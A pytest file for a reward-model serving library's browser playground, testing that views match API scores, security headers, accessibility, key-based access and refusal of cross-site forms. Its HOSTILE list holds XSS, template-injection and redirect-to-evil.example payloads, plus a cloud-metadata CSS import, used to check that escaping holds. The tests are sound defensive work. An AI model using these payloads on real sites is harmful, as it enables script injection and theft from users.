"""The playground without a browser: every view's numbers are the API's, texts stay texts, and who is let in."""

import asyncio
import hashlib
import itertools
import json
import pkgutil
import re

import httpx
import numpy as np
import playgrounds
import pytest
import servers

import karat
import toys
from karat.engine.padded import PaddedEngine, PaddedForward
from karat.serving import _batches, _figures, _playground, _views
from karat.serving._app import App, Settings
from karat.serving._metrics import Metrics
from karat.serving._pipeline import Pipeline
from karat.types import Reward, Sequence

PROMPT = "7*8+1?"
ANSWERS = ["7*8 = 56.\n56+1 = 57.\nSo 57.", "7*8 = 54.\nSo 55.", "57"]
PAGE = playgrounds.Page


@pytest.fixture(scope="module")
def local(tmp_path_factory):
    """A server for each kind, made when it is first asked for."""
    made = {}

    def of(kind):
        if kind not in made:
            made[kind] = servers.Local(playgrounds.made(tmp_path_factory.mktemp(kind), kind))
        return made[kind]

    yield of
    for own in made.values():
        own.close()


def shown(reply):
    assert reply.status_code == 200, reply.text
    return PAGE(reply.text)


def values(page):
    return [text.split()[-1] for _, text in page.all("span", class_="value")]


@pytest.mark.parametrize("kind", ["bradley_terry", "process", "multi_objective", "pairwise"])
def test_a_view_has_the_numbers_of_the_api_in_their_order(local, kind):
    page = shown(playgrounds.post(local(kind), PROMPT, ANSWERS))
    data = local(kind).ask("/v1/rank", {"prompt": PROMPT, "candidates": ANSWERS}).json()["data"]
    assert values(page) == [_views.number(own["reward"]) for own in data]
    names = [text for _, text in page.all("b") if text.startswith("Answer")]
    assert names == [f"Answer {own['index'] + 1}" for own in data]
    assert page.text("h2", id="result-title") == f"{names[0]} is best of 3"
    assert page.text("span", class_="lead") == "best"
    again = local(kind).ask("/v1/rank", json.loads(page.all("pre")[0][1])).json()["data"]  # what the page says it asked
    assert [own["reward"] for own in again] == pytest.approx([own["reward"] for own in data], abs=1e-5)


def test_steps_and_where_they_first_drop(local):
    page = shown(playgrounds.post(local("process"), PROMPT, ANSWERS))
    body = {"prompt": PROMPT, "candidates": [{"steps": a.split("\n")} for a in ANSWERS]}
    (item,) = local("process").ask("/v1/reward", body).json()["data"]
    items = [own for own in page.all("li") if own[0].get("class", "").startswith("level-")]
    order = sorted(range(3), key=lambda i: -item["candidates"][i]["reward"])
    wanted = [(i, step, p) for i in order for step, p in enumerate(item["candidates"][i]["steps"])]
    assert len(items) == len(wanted) == 6
    for (attributes, text), (answer, step, p) in zip(items, wanted, strict=True):
        assert ANSWERS[answer].split("\n")[step] in text and text.startswith(_views.number(p))
        assert int(attributes["class"].split()[0][-1]) == min(7, int(p * 8))
        below = [q <= 0.5 for q in item["candidates"][answer]["steps"]]
        drops = any(below) and below.index(True) == step
        assert ("first" in attributes["class"].split()) is drops is ("▼ first drop" in text)
    said = [text for _, text in page.all("p", class_="drop")]
    assert len(said) == 3 and any(s.startswith("First drop at step") for s in said)


def test_a_drop_is_the_first_that_is_not_above_the_threshold(local):
    process = local("process").pipeline.model
    assert _views._drop([0.9, 0.5, 0.1], process) == "First drop at step 2 of 3: 0.5000 is not above 0.5."
    assert _views._drop([0.9, 0.6], process) == "Every step is above 0.5."
    steps = _views._steps([0.9, 0.5, 0.1], "a\nb\nc", process)
    assert [s.drop for s in steps] == [False, True, False] and [s.level for s in steps] == [7, 4, 0]
    assert [s.text for s in _views._steps([0.1, 0.2], "no lines", process)] == ["", ""]  # rewards of tokens


def test_line_ends_of_forms_do_not_change_a_score(local):
    """Browsers send CR LF for what was typed as LF: another text, with another score."""
    wanted = servers.reward(local("bradley_terry").ask("/v1/reward", {"prompt": PROMPT, "candidates": [ANSWERS[0]]}))
    page = shown(playgrounds.post(local("bradley_terry"), PROMPT, [ANSWERS[0]]))
    assert values(page) == [_views.number(wanted[0])]
    as_sent = {"prompt": PROMPT, "candidates": [ANSWERS[0].replace("\n", "\r\n")]}
    assert servers.reward(local("bradley_terry").ask("/v1/reward", as_sent)) != wanted  # the control


def test_objectives_diverge_from_the_middle_heaviest_first(local):
    page = shown(playgrounds.post(local("multi_objective"), PROMPT, ANSWERS[:2]))
    asked = {"prompt": PROMPT, "candidates": ANSWERS[:2]}
    data = local("multi_objective").ask("/v1/rank", asked).json()["data"]
    gate = data[0]["gate"]
    order = sorted(gate, key=lambda name: -gate[name])
    names = [text for own, text in page.all("th", scope="row") if text in gate]
    assert names == order and set(order) == set(playgrounds.OBJECTIVES)
    for own in data:
        assert sum(own["gate"][n] * own["objectives"][n] for n in gate) == pytest.approx(own["reward"], abs=1e-4)
    most = max(abs(v) for own in data for v in own["objectives"].values())
    rows = _views.objectives(data)
    for row in rows:
        for own, (said, mark) in zip(data, row.values, strict=True):
            value = own["objectives"][row.name]
            assert said == _views.number(value) and mark.negative is (value < 0)
            end = mark.start if value < 0 else mark.start + mark.width
            assert end == pytest.approx(50 + 50 * value / most)
    assert {value for row in rows for value, _ in row.values} <= {text for _, text in page.all("td", class_="n")}


def test_two_answers_in_both_orders(local):
    page = shown(playgrounds.post(local("pairwise"), PROMPT, ANSWERS))
    rows = [text for _, text in page.all("th", scope="row")]
    assert rows == ["1 over 2", "1 over 3", "2 over 3"]
    asked = {"prompt": PROMPT, "a": ANSWERS[0], "b": ANSWERS[1]}
    (own,) = local("pairwise").ask("/v1/compare", asked).json()["data"]
    cells = [text for _, text in page.all("td", class_="n")][:3]
    assert cells == [_views.number(v) for v in (own["probability"], *own["orders"])]
    assert "tokens" not in " ".join(text for _, text in page.all("p", class_="hint"))


def test_orders_that_disagree_are_said_to():
    answers = [_views.Answer(1, "a"), _views.Answer(4, "b")]
    own = {"probability": 0.55, "orders": (0.9, 0.2)}
    (duel,) = _views.duels([own], answers)
    assert "disagree" in duel.words and duel.orders == ("0.9000", "0.2000")
    assert _views.duels([{**own, "orders": (0.6, 0.5001)}], answers)[0].words == "Answer 1 is preferred."
    assert _views.duels([{"probability": 0.2}], answers)[0].words == "Answer 4 is preferred."
    assert _views.duels([{"error": {"message": "no"}}], answers)[0].words == "no"


def test_many_answers_are_ranked_and_not_paired(local):
    page = shown(playgrounds.post(local("pairwise"), "p", list("abcdefg")))
    assert len(values(page)) == 7 and not page.all("th", scope="row")
    assert "up to 6" in page.all("section", id="result")[0][1]


def test_similarities_are_cosines_with_the_prompt(local):
    page = shown(playgrounds.post(local("embedding"), PROMPT, ANSWERS))
    reply = local("embedding").ask("/v1/embeddings", {"input": [PROMPT, *ANSWERS]})
    vectors = np.array([own["embedding"] for own in reply.json()["data"]])
    unit = vectors / np.linalg.norm(vectors, axis=1, keepdims=True)
    cosines = unit[1:] @ unit[0]
    assert values(page) == [_views.number(float(c)) for c in sorted(cosines, reverse=True)]
    assert page.text("h2", id="result-title") == f"Answer {int(cosines.argmax()) + 1} is nearest of 3"


def test_answers_without_a_reward_say_why_and_come_last(local):
    page = shown(playgrounds.post(local("bradley_terry"), "p", ["x" * 3000, "", "fine"]))
    assert page.text("h2", id="result-title") == "Answer 3 is best of 2"  # its box is the third
    (error,) = [text for _, text in page.all("span", class_="error")]
    assert "max_length" in error and error.startswith("No reward")
    none = shown(playgrounds.post(local("bradley_terry"), "p", ["x" * 3000, "y" * 3000]))
    assert none.text("h2", id="result-title") == "No answer was scored"
    alone = playgrounds.post(local("bradley_terry"), "p", ["x" * 3000])
    assert alone.status_code == 400 and "max_length" in PAGE(alone.text).text("p", role="alert")


@pytest.mark.parametrize(
    ("kind", "answers", "said"),
    [("bradley_terry", ["", " "], "at least one"), ("pairwise", ["a", ""], "at least two")],
)
def test_too_few_answers_are_refused_and_the_form_keeps_its_texts(local, kind, answers, said):
    reply = playgrounds.post(local(kind), "my prompt", answers)
    page = PAGE(reply.text)
    assert reply.status_code == 400 and said in page.text("p", role="alert")
    assert page.all("textarea", id="prompt")[0][1] == "\nmy prompt"


def test_boxes_can_be_added_without_scripts(local):
    reply = playgrounds.post(local("bradley_terry"), "p", ["\nfirst line is empty", "b"], more="true")
    page = shown(reply)
    boxes = page.all("textarea", name="answer")
    assert [text for _, text in boxes] == ["\n\nfirst line is empty", "\nb", "\n"]  # a browser drops the first line end
    assert "autofocus" in boxes[2][0] and not values(page)


# Texts stay texts

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></details><iframe src=javascript:alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)//",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>@import 'http://169.254.169.254/';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Score</button></form>",
    "<input name=answer value=x><button formaction=//evil.example>go",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div data-hx-post=/ data-hx-trigger=load>x</div>",
    "<hx-partial hx-target='#ask'>x</hx-partial>",
    "<div hx-on:htmx:load='alert(1)'>",
    "<body onload=alert(1)>",
    "{{ 7*7 }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<ScRiPt\x0c>alert(1)</sCrIpT\t>",
    "\u202egnp.\u202d<b>\u2066x",
    "a\u2028b\u2029<script>c",
    "\ufeff<script>alert(1)</script>",
    "🏴\U000e0067<script>" + "e\u0301" * 50,
]


def structure(reply):
    """Every element of form and result with the names of its attributes: what no text may change.

    How many notes and marks an answer has is the model's to say.
    """
    html, _, _ = reply.text.partition('<section id="engine"')
    counted = ("strong", "span", "path", "rect")
    return [
        (tag, sorted(own))
        for tag, own, _ in PAGE(html).elements
        if tag not in counted and (tag, own.get("class")) != ("p", "hint")
    ]


def test_hostile_texts_change_nothing_of_a_form_but_its_text(local):
    made = local("bradley_terry")
    wanted = structure(playgrounds.post(made, "p", ["first", "second"], more="true"))
    for text in HOSTILE:
        reply = playgrounds.post(made, text, [text, "second"], more="true")
        page = shown(reply)
        assert structure(reply) == wanted, text
        assert page.all("textarea", id="prompt")[0][1] == page.all("textarea", id="answer-1")[0][1] == f"\n{text}"


@pytest.mark.parametrize(
    ("kind", "texts"),
    [
        ("bradley_terry", HOSTILE),
        ("process", HOSTILE),
        ("pairwise", HOSTILE[:6]),
        ("multi_objective", HOSTILE[::4]),
        ("embedding", HOSTILE),
    ],
)
def test_hostile_texts_in_every_view(local, kind, texts):
    reply = playgrounds.post(local(kind), texts[0], [*texts])
    assert structure(reply) == structure(playgrounds.post(local(kind), "p", [f"answer {n}" for n in range(len(texts))]))
    page = shown(reply)
    said = [text for _, text in page.all("p", class_="text") + page.all("span", class_="said")]
    assert all(any(text in own for own in said) for text in texts)


def test_negative_control_of_the_injection_suite(local, monkeypatch):
    """Without escaping, most of these texts change the page."""
    made, unsafe = local("bradley_terry"), _playground._templates().overlay(autoescape=False)
    wanted = structure(playgrounds.post(made, "p", ["first", "second"], more="true"))
    monkeypatch.setattr(_playground, "_templates", lambda: unsafe)
    changed = [structure(playgrounds.post(made, text, [text, "second"], more="true")) != wanted for text in HOSTILE]
    assert sum(changed) > len(changed) / 2


def test_hostile_names_of_models_and_objectives(tmp_path):
    names = HOSTILE[:5]
    model = playgrounds.made(tmp_path, "multi_objective", objectives=names)
    pipelines = {HOSTILE[1]: Pipeline(model), HOSTILE[5]: Pipeline(model)}
    made = servers.Local(model)
    made.app.close()
    made.app = App(pipelines)
    made.client = httpx.AsyncClient(transport=httpx.ASGITransport(made.app), base_url="http://localhost")
    reply = playgrounds.post(made, "p", ["a", "b"], model=HOSTILE[5])
    page = shown(reply)
    assert [own["value"] for own, _ in page.all("option")] == list(pipelines)
    assert [own["value"] for own, _ in page.all("option") if "selected" in own] == [HOSTILE[5]]
    assert set(names) <= {text for _, text in page.all("th", scope="row")}
    assert not [tag for tag, _, _ in page.elements if tag in ("img", "iframe")]
    assert len(page.all("script")) == 2 and "alert" not in "".join(own["src"] for own, _ in page.all("script"))
    unknown = playgrounds.post(made, "p", ["a"], model="<img src=y onerror=alert(2)>")
    assert unknown.status_code == 404 and not PAGE(unknown.text).all("img")
    made.close()


# Headers, addresses, structure


@pytest.mark.parametrize("path", ["/", "/playground/example", "/playground/live", "/playground/playground.css"])
def test_headers_let_nothing_else_run_and_nothing_be_kept(local, path):
    headers = local("bradley_terry").ask(path).headers
    policy = dict(part.strip().split(" ", 1) for part in headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'" and policy["script-src"] == policy["style-src"] == "'self'"
    assert policy["frame-ancestors"] == policy["base-uri"] == "'none'" and policy["form-action"] == "'self'"
    assert "unsafe" not in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "same-origin"
    assert "set-cookie" not in headers and "access-control-allow-origin" not in headers
    assert ("no-store" in headers["cache-control"]) is (not path.endswith(".css"))


def test_a_page_runs_and_loads_only_what_is_its_servers_own(local):
    html = playgrounds.post(local("multi_objective"), PROMPT, ANSWERS).text
    page = PAGE(html)
    for tag, own, text in page.elements:
        assert not any(name == "style" or name.startswith("on") for name in own), (tag, own)
        for name in ("src", "href", "action", "formaction", "hx-get", "hx-post"):
            assert own.get(name, "/").startswith("/") and not own.get(name, "/").startswith("//"), (tag, own)
        assert tag != "style" and not (tag == "script" and "".join(text).strip())
    for own, _ in page.all("script") + page.all("link"):
        address = own.get("src") or own.get("href")
        reply = local("multi_objective").ask(address)
        assert reply.status_code == 200 and "immutable" in reply.headers["cache-control"]
        assert hashlib.sha256(reply.content).hexdigest().startswith(address.partition("?")[2])
    assert "url(" not in local("multi_objective").ask("/playground/playground.css").text


def test_what_is_vendored_is_what_is_said(local):
    said = (_playground._FOLDER / "VENDORED.md").read_text()
    content = local("bradley_terry").ask("/playground/htmx.min.js").content
    assert hashlib.sha256(content).hexdigest() in said and b"4.0.1" in content and "4.0.1" in said
    assert "Zero-Clause BSD" in (_playground._FOLDER / "htmx.LICENSE").read_text()


@pytest.mark.parametrize("kind", playgrounds.KINDS)
def test_a_page_can_be_used_by_keyboard_and_heard(local, kind):
    html = playgrounds.post(local(kind), PROMPT, ANSWERS).text
    page = PAGE(html)
    labels = {own["for"] for own, _ in page.all("label") if "for" in own}
    fields = [own for tag in ("textarea", "select") for own, _ in page.all(tag)]
    assert len(fields) == 4 and {own["id"] for own in fields} <= labels
    assert all(own.get("tabindex", "0") in ("0", "-1") for _, own, _ in page.elements)
    described = {own["aria-describedby"] for _, own, _ in page.elements if "aria-describedby" in own}
    named = {own["aria-labelledby"] for _, own, _ in page.elements if "aria-labelledby" in own}
    ids = [own["id"] for _, own, _ in page.elements if "id" in own]
    assert described | named <= set(ids) and len(ids) == len(set(ids))
    levels = [int(tag[1]) for tag, _, _ in page.elements if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b <= a + 1 for a, b in itertools.pairwise(levels))
    assert page.all("html", lang="en") and len(page.all("main")) == 1
    assert all(own.get("aria-hidden") == "true" for own, _ in page.all("svg"))  # each stands beside its number
    assert all(own.get("scope") for own, _ in page.all("th")) and all(text.strip() for _, text in page.all("th"))
    regions = [own for _, own, _ in page.elements if own.get("role") == "region"]
    assert all(own["aria-label"] and own["tabindex"] == "0" for own in regions)
    order = [own.get("id") or own.get("name") or "".join(text) for tag, own, text in page.elements if _focusable(tag)]
    assert order[:7] == ["prompt", "answer-1", "answer-2", "answer-3", "Score", "more", "Fill in an example"]


def _focusable(tag):
    return tag in ("textarea", "button", "a", "input", "select", "summary")


# Who is let in


@pytest.fixture(scope="module")
def keyed(model_folder):
    made = servers.Local(karat.load(str(model_folder)), Settings(key="secrét"))
    yield made
    made.close()


KEY = {"authorization": "Bearer secrét".encode()}


def test_without_the_key_a_page_tells_nothing(keyed):
    for path in ("/", "/playground/example"):
        page = shown(keyed.ask(path))
        assert (
            page.all("input", id="key")[0][0]["type"] == "password" and "name" not in page.all("input", id="key")[0][0]
        )
        assert "toy" not in page.text("body") and not page.all("table") and not page.all("dl")
    for reply in (playgrounds.post(keyed, "p", ["a"]), keyed.ask("/playground/live")):
        assert reply.status_code == 401 and reply.headers["content-type"].startswith("text/html")
        assert "Authorization: Bearer KEY" in reply.text and "toy" not in reply.text
        assert "content-security-policy" in reply.headers
    for method in ("HEAD", "PUT", "OPTIONS", "DELETE"):
        assert keyed.ask("/", method=method).status_code == 401


def test_with_the_key_it_is_the_same_page(keyed):
    page = shown(playgrounds.post(keyed, "p", ["a", "b"], KEY))
    assert len(values(page)) == 2 and "toy" in page.all("section", id="result")[0][1]
    live = keyed.run(keyed.client.get("/playground/live", headers=KEY))
    assert live.status_code == 200 and "Last batches" in live.text


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"origin": "http://evil.example"}, 403),
        ({"origin": "null"}, 403),
        ({"origin": "http://["}, 403),
        ({"sec-fetch-site": "cross-site"}, 403),
        ({"sec-fetch-site": "same-site"}, 403),
        ({"origin": "http://localhost", "sec-fetch-site": "same-origin"}, 200),
        ({"content-type": "text/plain"}, 415),
        ({"content-type": "multipart/form-data; boundary=x"}, 415),
    ],
)
def test_forms_of_other_sites_and_other_bodies_are_refused(local, headers, status):
    reply = playgrounds.post(local("bradley_terry"), "p", ["a"], headers)
    assert reply.status_code == status and reply.headers["content-type"].startswith("text/html")
    assert bool(PAGE(reply.text).all("p", role="alert")) is (status != 200)


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"answer=%ff%fe", 400),
        (b"answer=\xff", 400),
        (b"answer=a&unknown=1", 400),
        (b"answer=a&more=perhaps", 400),
        (b"model=" + b"x" * 600 + b"&answer=a", 400),
        (b"&".join([b"answer=a"] * 2100), 400),
        (b"answer=" + b"a" * (9 << 20), 413),
        (b"", 400),
    ],
    ids=["utf-8", "bytes", "unknown", "no flag", "long name", "many", "long", "empty"],
)
def test_forms_that_cannot_be_read_are_refused_in_one_sentence(local, body, status):
    reply = local("bradley_terry").ask("/", body, headers=playgrounds.FORM)
    assert reply.status_code == status
    (told,) = [text for _, text in PAGE(reply.text).all("p", role="alert")]
    assert told and "\n" not in told.strip() and "Traceback" not in told


def test_limits_are_those_of_the_api(local):
    most = 2048
    reply = playgrounds.post(local("embedding"), "", ["a"] * most)  # with the prompt they are one more
    assert reply.status_code == 400 and "write fewer" in PAGE(reply.text).text("p", role="alert")
    assert servers.error(local("embedding").ask("/v1/embeddings", {"input": ["a"] * (most + 1)}))


# What the engine does


def test_batches_are_counted_as_they_were_computed(local):
    made = local("bradley_terry")
    playgrounds.post(made, "a quite new prompt", ["an answer", "an answer, too"])
    (newest, *_) = made.pipeline.recent()
    body = {"prompt": "a quite new prompt", "candidates": ["an answer", "an answer, too"]}
    total = sum(r.tokens for r in made.pipeline.model.score(body["prompt"], body["candidates"]))
    assert newest.sequences == 2 and newest.computed + newest.shared == total and newest.padding == 0
    assert newest.computed < total and newest.seconds > 0
    page = PAGE(made.ask("/playground/live").text)
    row = [text for _, text in page.all("td", class_="n")][:4]
    assert row == [f"{n:,}" for n in (2, newest.computed, newest.shared, 0)]


def test_padding_is_what_rows_were_filled_up_with():
    engine = PaddedEngine(PaddedForward(toys.backbone(), budget=24))
    lengths = [3, 9, 2, 8]
    found = engine.run([Sequence(tuple(range(1, n + 1)), {"last": (n - 1,)}) for n in lengths])
    assert [states.padding for states in found] == [0, 0, 1, 1]  # rows of 9 with 8, and of 3 with 2


def test_the_batch_picture_has_padding_in_its_place(local):
    made = local("bradley_terry")
    made.pipeline.recent._last.appendleft(_batches.Batch(3, 60, 20, 20, 0.001))
    page = PAGE(made.ask("/playground/live").text)
    most = max(b.computed + b.shared + b.padding for b in made.pipeline.recent())
    rects = {own["class"]: own for own, _ in page.all("rect")[:3]}
    for name, start, width in (("computed", 0, 60), ("shared", 60, 20), ("padding", 80, 20)):
        assert float(rects[name].get("x", 0)) == pytest.approx(100 * start / most, abs=2e-3)
        assert float(rects[name]["width"]) == pytest.approx(100 * width / most, abs=2e-3)


def test_only_the_last_batches_are_kept_and_failures_pass_through():
    recent = _batches.Recent()
    run = recent.around(lambda payloads: [Reward(1.0, tokens=10, cached_tokens=n) for n in payloads])
    for n in range(40):
        run([n % 3, 1])
    assert len(recent()) == _batches.KEPT and recent()[0][:4] == (2, 19, 1, 0)
    with pytest.raises(ZeroDivisionError):
        recent.around(lambda payloads: 1 / 0)([1])
    assert len(recent()) == _batches.KEPT


def test_figures_are_those_of_metrics():
    metrics = Metrics()
    assert _figures.figures(metrics.registry, [])[0].value == "0"
    metrics.answered("/v1/reward", 200, 0.01)
    metrics.answered("/v1/reward", 429, 0.01)
    metrics.answered("/v1/rank", 500, 0.01)
    last = [_batches.Batch(2, 300, 100, 0, 0.1), _batches.Batch(2, 100, 0, 0, 0.1)]
    found = {figure.name: figure for figure in _figures.figures(metrics.registry, last)}
    assert found["Requests answered"][1:] == ("1", "1 refused, 1 failed")
    assert found["Tokens per second"].value == "2,000" and found["Tokens per second"].note.startswith("20%")


@pytest.mark.parametrize("name", ["karat.serving._app.read", "karat.serving._playground._html"])
def test_long_texts_are_read_and_drawn_beside_the_event_loop(local, monkeypatch, name):
    loops, function = [], pkgutil.resolve_name(name)

    def watched(*arguments, **options):
        loops.append(asyncio._get_running_loop())
        return function(*arguments, **options)

    monkeypatch.setattr(name, watched)
    assert playgrounds.post(local("bradley_terry"), "p", ["x"]).status_code == 200
    assert loops == [None]


def test_numbers_are_shown_with_a_minus_and_never_as_a_false_0():
    assert [_views.number(v) for v in (0.0, -0.0001, 3e-7, 12.34567)] == ["0.0000", "−1.0e-04", "3.0e-07", "12.3457"]
